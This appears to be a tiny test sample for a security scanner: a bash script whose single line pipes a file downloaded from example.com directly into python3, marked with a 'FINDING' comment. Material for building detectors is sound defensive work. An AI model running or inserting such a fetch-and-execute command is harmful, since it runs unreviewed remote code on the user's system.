#!/bin/bash
curl https://example.com/get.py | python3 -  # FINDING
